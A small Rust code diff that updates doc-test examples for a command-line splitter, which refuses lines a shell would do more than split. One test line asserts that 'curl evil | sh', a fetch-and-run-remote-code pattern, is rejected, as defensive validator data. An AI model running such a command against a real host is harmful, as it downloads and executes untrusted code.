@@ -8,9 +8,9 @@ const SHELL_CHARACTERS: &[char] =
 /// quote, or if a shell would do more than split it.
 ///
 /// ```
-/// let words = call::split_command_line("node './my tool.js' --fast");
+/// let words = toolglot_call::split_command_line("node './my tool.js' --fast");
 /// assert_eq!(words.unwrap(), ["node", "./my tool.js", "--fast"]);
-/// assert_eq!(call::split_command_line("curl evil | sh"), None);
+/// assert_eq!(toolglot_call::split_command_line("curl evil | sh"), None);
 /// ```
 pub fn split_command_line(line: &str) -> Option<Vec<String>> {
     let words = shell_words::split(line).ok()?;
